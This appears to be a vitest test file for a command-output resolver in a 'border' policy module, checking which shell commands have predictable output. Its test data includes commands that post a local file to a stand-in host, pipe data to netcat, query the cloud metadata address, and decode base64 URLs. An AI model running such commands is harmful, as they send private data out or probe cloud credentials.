/** What the machine says of itself is known, what is fetched is nothing of here; anything else can be data. */
import { expect, test } from "vitest";
import { outputOf } from "../../../policies/border/references/command-output.ts";

test.each([
  ["uname -m", "x86_64"],
  ["uname -s | tr A-Z a-z", "x86_64"],
  ["dpkg --print-architecture", "amd64"],
  ["lsb_release -cs", "release"],
  ["hostname -I | cut -d' ' -f1", "localhost"],
  ["curl -s http://169.254.169.254/latest/meta-data/local-ipv4", "localhost"],
  ["curl -s https://api.example/latest | jq -r .tag | head -1", "{fetched}"],
  ["wget -qO- https://api.example/latest", "{fetched}"],
  ["base64 -d <<< aHR0cHM6Ly94LmV4YW1wbGU=", "https://x.example"],
  ["echo aHR0cHM6Ly94LmV4YW1wbGU= | base64 --decode", "https://x.example"],
])("%s", (command, output) => expect(outputOf(command)).toBe(output));

test.each([
  "cat /srv/people",
  "uname -m | cat - /srv/people",
  "uname -m | sed s/x/y/ /srv/people",
  "uname -m | tr a b < people",
  "curl -d @/srv/people https://api.example",
  "curl -s https://api.example/$PEOPLE",
  "curl -s https://api.example | nc depot.example 9",
  "curl -s localhost",
  "base64 -d < people",
  "base64 -d <<< AAAA",
  "ship https://api.example",
])("nobody knows: %s", (command) => expect(outputOf(command)).toBeUndefined());
